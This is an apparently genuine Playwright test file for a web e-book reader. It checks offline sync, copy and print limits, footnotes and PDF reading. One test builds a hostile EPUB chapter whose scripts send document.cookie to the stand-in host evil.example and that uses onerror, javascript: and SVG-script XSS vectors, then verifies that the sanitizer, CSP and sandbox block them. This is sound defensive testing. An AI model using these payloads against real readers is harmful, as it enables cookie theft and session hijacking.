import type { Request } from '@playwright/test';
import { BookReader } from '../pages/book-reader.ts';
import { expectAccessible, pressByKeyboard } from '../support/accessibility.ts';
import { giveBook, oddEpub } from '../support/malformed-books.ts';
import { linkedPdf, wordsOfPdf } from '../support/malformed-pdfs.ts';
import { waitForServiceWorker } from '../support/network.ts';
import { storedInStores } from '../support/stored-values.ts';
import { expect, test } from '../support/test.ts';

// The test tools also try to run in the book's frame, which blocks them.
test.beforeEach(({ consoleGuard }) => consoleGuard.allow(/^Blocked script execution in '[^']*book-frame\.html'/));

const words = (count: number) => 'The tide comes in and the tide goes out. '.repeat(count);
const chapters = [
  `<p>${words(60)}</p><p id="p2">A lantern in the fog.</p><p>${words(200)}</p>`,
  '<p>Wind from the west.<a epub:type="noteref" href="#n1">1</a></p><aside epub:type="footnote" id="n1"><p>By the almanac.</p></aside>',
];

test('a book is read and annotated offline, and its place and annotations appear on another device', {
  tag: '@firefox',
}, async ({ page, context, network, browser, baseURL }) => {
  const reader = new BookReader(page);
  await reader.signIn('Maya');
  await waitForServiceWorker(page);
  await giveBook(context, oddEpub({ chapters }));
  await reader.open();
  await expect(reader.book.getByRole('heading', { name: 'Chapter 1' })).toBeVisible();
  await reader.turn();
  await expect(reader.position()).toContainText('2 of');
  // A page is shown before its position is stored. A person who leaves in the same moment is one page behind.
  await expect.poll(() => storedInStores(page)).toMatch(/reading\.left[^}]*"progress":0\.\d/);

  await network.goOffline();
  await page.reload();
  await expect(reader.position()).toContainText('2 of');
  await reader.search('lantern');
  await page.getByRole('button', { name: /lantern in the fog/ }).click();
  await reader.select('A lantern in the fog');
  await reader.button('Note').click();
  await reader.writeNote('Why a lantern?');
  await expect(reader.button('Copy with citation')).toBeHidden();
  await reader.button('Bookmarks and notes').click();
  const notes = page.getByRole('dialog');
  await expect(notes).toContainText('Why a lantern?');
  await reader.button('Remove').click();
  await expect(notes).toContainText('The note was removed.');
  await reader.button('Undo').click();
  await expect(notes).toContainText('Why a lantern?');
  await reader.button('Close').click();
  await reader.button('Contents').click();
  await reader.button('Chapter 2').click();
  await expect(reader.book.getByText('Wind from the west.')).toBeVisible();

  await network.goOnline();
  await page.goto('/shelf');
  const address = await reader.addressOf('EPUB');
  const id = address.split('/').at(-1);
  await expect
    .poll(async () => (await page.request.get(`/api/v1/reading/states/${id}/`)).text())
    .toMatch(/(?=[\s\S]*Why a lantern)(?=[\s\S]*Chapter 2)/);

  const tablet = await browser.newContext({ ...(baseURL === undefined ? {} : { baseURL }) });
  const other = new BookReader(await tablet.newPage());
  await other.signIn('Maya');
  await giveBook(tablet, oddEpub({ chapters }));
  await other.open();
  await expect(other.page.getByText(/On another device you read as far as “Chapter 2”/)).toBeVisible();
  await expect(other.book.getByRole('heading', { name: 'Chapter 1' })).toBeVisible();
  await other.button('Go there').click();
  await expect(other.book.getByText('Wind from the west.')).toBeVisible();
  await other.button('Bookmarks and notes').click();
  await expect(other.page.getByRole('dialog')).toContainText('Why a lantern?');
  await tablet.close();
});

test.describe('reading without saved data', () => {
  test.use({ data: 'shared' });

  test('a hostile book can run, send, fetch and reach nothing', async ({ page, context, consoleGuard }) => {
    const [requested, ends]: [string[], (string | undefined)[]] = [[], []];
    context.on('request', (request) => request.url().includes('evil.example') && requested.push(request.url()));
    const end = (request: Request) => request.url().includes('evil.example') && ends.push(request.failure()?.errorText);
    context.on('requestfailed', end);
    context.on('requestfinished', end);
    const theft = `top.stolen = 1; parent.stolen = 1; localStorage.setItem('stolen', document.cookie); indexedDB.open('stolen');
      fetch('https://evil.example/' + document.cookie); navigator.serviceWorker.register('/x.js')`;
    const body = `<p>Harmless words.</p><script>${theft}</script>
      <svg xmlns="http://www.w3.org/2000/svg" onload="top.stolen = 1" width="9" height="9"><script>${theft}</script></svg>
      <img src="https://evil.example/pixel.png" onerror="top.stolen = 1" alt=""/><img src="x.png" onerror="top.stolen = 1" alt=""/>
      <img src="bad.svg" alt="A drawing"/>
      <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
      <form action="https://evil.example/send"><input name="n" value="v"/><button>Send</button></form>
      <a href="javascript:top.stolen=1">A link</a><a href="../../../shelf">Another</a>
      <style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png) }</style>
      <p style="background: url(https://evil.example/c.png)">More words.</p>`;
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5"><script>${theft}</script></svg>`;
    const reader = new BookReader(page);
    await reader.signIn('Maya');
    await giveBook(context, oddEpub({ chapters: [body], files: { 'bad.svg': drawing } }));
    await reader.open();
    await expect(reader.book.getByText('Harmless words.')).toBeVisible();
    await reader.book.getByText('A link').click();
    await reader.book.getByText('Another').click();
    expect(await reader.book.locator('script, iframe, object, form, input').count()).toBe(0);
    expect(requested).toEqual([]);

    // Tests the second line of defense: the content bypasses the sanitizer and is put into the frame unchanged.
    consoleGuard.allow(/(?:Content[- ]Security[- ]Policy|[Ss]andbox)/);
    await reader.book.locator('body').evaluate(
      (element, markup) => {
        const { ownerDocument } = element;
        element.innerHTML = markup;
        for (const script of element.querySelectorAll('script')) {
          const live = ownerDocument.createElement('script');
          live.textContent = script.textContent;
          script.replaceWith(live);
        }
        ownerDocument.head.innerHTML += '<meta http-equiv="refresh" content="0; url=https://evil.example/away">';
        element.querySelector('form')?.submit();
        element.querySelector('a')?.click();
      },
      body.replace('<a href', '<a target="_top" href'),
    );
    await expect(reader.book.getByText('Send')).toBeVisible();

    const stolen = await page.evaluate(async () => ({
      isSet: 'stolen' in window,
      kept: localStorage.getItem('stolen'),
      databases: (await indexedDB.databases()).filter(({ name }) => name === 'stolen'),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(stolen).toEqual({ isSet: false, kept: null, databases: [], workers: 1 });
    // The requests never left the browser.
    await expect.poll(() => ends.length).toBe(requested.length);
    // Firefox names a blocked navigation in another way than a blocked request.
    expect(ends.filter((reason) => reason !== 'csp' && reason !== 'NS_BINDING_ABORTED')).toEqual([]);
    expect(ends).not.toEqual([]);
    expect(page.url()).toMatch(/\/book\/read\//);
    const frame = await page.request.get('/book-frame.html');
    expect(frame.headers()['content-security-policy']).toContain("script-src 'none'");
    expect(await page.locator('main iframe').getAttribute('sandbox')).toBe('allow-same-origin allow-modals');
  });
});

test('the limits of copying and printing are enforced, and copied and printed parts are counted', async ({
  page,
  context,
}) => {
  const reader = new BookReader(page);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await reader.openBook(
    oddEpub({
      chapters: [
        `<p>Twelve words stand here so that a part of them may be copied out.</p><p>${words(40)}</p>`,
        `<p>${words(30)}</p>`,
      ],
    }),
    'EPUB',
    { copyPercent: 1, printPercent: 60 },
  );
  await expect(reader.position()).toContainText('1 of');
  const heightOf = () => page.locator('main iframe').evaluate((frame) => frame.clientHeight);
  const height = await heightOf();
  await reader.select('Twelve words stand');
  await reader.button('Copy with citation').click();
  // The selection stays in place: the page is not laid out again.
  expect(await heightOf()).toBe(height);
  await expect(page.getByText('Copied.')).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    '“Twelve words stand”\nMarsh, A. (n.d.). Odd.',
  );
  await reader.select('may be copied out');
  await reader.button('Copy').click();
  await expect(page.getByText(/publisher limits copying/)).toBeVisible();

  const paper = await reader.catchPrints();
  await reader.print('Print this chapter');
  const printed = await wordsOfPdf(await paper());
  expect(printed).toContain('Twelve words stand here');
  expect(printed.match(/goes out/g)).toHaveLength(40);
  await reader.print('Print this page');
  await expect(page.getByText(/more than the publisher allows you to print/)).toBeVisible();
  await reader.button('Close').click();
  // The browser's own print command cannot enforce the limit, so it prints only a hint.
  expect(await wordsOfPdf(await page.pdf())).toMatch(/^Print from the reader.s menu[^.]*\.$/);
});

test('a footnote is shown beside the text, and the display settings are kept', async ({ page }) => {
  const reader = new BookReader(page);
  await reader.openBook(oddEpub({ chapters: chapters.toReversed() }));
  await reader.book.getByRole('link', { name: '1' }).click();
  const note = page.getByRole('dialog', { name: 'Note' }).frameLocator('iframe');
  await expect(note.getByText('By the almanac.')).toBeVisible();
  await reader.button('Close').click();
  await reader.choose('Dark', 'Scroll');
  const ground = () => reader.book.locator('body').evaluate((body) => getComputedStyle(body).backgroundColor);
  await expect.poll(ground).toBe('rgb(24, 22, 19)');
  await page.reload();
  await expect.poll(ground).toBe('rgb(24, 22, 19)');
  await expect(page.locator('main iframe')).toHaveAttribute('title', 'Concepts of Biology');
  await expectAccessible(page, 'main iframe');
});

test('a PDF is read page by page and searched, its links work, and it opens offline', async ({
  page,
  context,
  network,
}) => {
  const reader = new BookReader(page);
  await reader.signIn('Maya');
  await waitForServiceWorker(page);
  await giveBook(context, await linkedPdf(), { printPercent: 40 });
  await context.route('https://example.org/**', (route) => route.fulfill({ body: 'The tides of the year' }));
  await reader.open('PDF');
  await expect(reader.position()).toContainText('Page 1');
  await expectAccessible(page);
  const links = page.getByRole('main').getByRole('document').getByRole('link');
  expect(await links.evaluateAll((all) => all.map((link) => link.ariaLabel))).toEqual([
    'To the last page',
    'The almanac',
    'Page 2',
  ]);
  const opened = context.waitForEvent('page');
  await page.getByRole('link', { name: 'The almanac' }).click();
  const almanac = await opened;
  await expect(almanac.getByText('The tides of the year')).toBeVisible();
  expect(await almanac.evaluate(() => window.opener)).toBeNull();
  await almanac.close();

  await reader.search('page 2');
  await page.getByRole('button', { name: 'This is page 2.' }).click();
  await expect(reader.position()).toContainText('Page 2');
  const paper = await reader.catchPrints();
  await reader.print('Print this page');
  expect((await paper()).toString('latin1')).toContain('/Subtype /Image');
  await reader.print('Print this page');
  await expect(page.getByText(/more than the publisher allows you to print/)).toBeVisible();
  await reader.button('Close').click();
  await reader.button('Previous page').click();
  await expect(reader.position()).toContainText('Page 1');
  // The PDF embeds no fonts. The standard fonts must be on the device as well.
  const letters = () => page.evaluate(async () => (await (await caches.open('pdf-parts')).keys()).length);
  await expect.poll(letters).toBeGreaterThanOrEqual(14);
  await network.goOffline();
  await page.reload();
  await expect(reader.position()).toContainText('Page 1');
  await pressByKeyboard(page, page.getByRole('link', { name: 'To the last page' }));
  await expect(reader.position()).toContainText('Page 3');
  await expect(page.getByRole('main').getByRole('document')).toBeFocused();
});
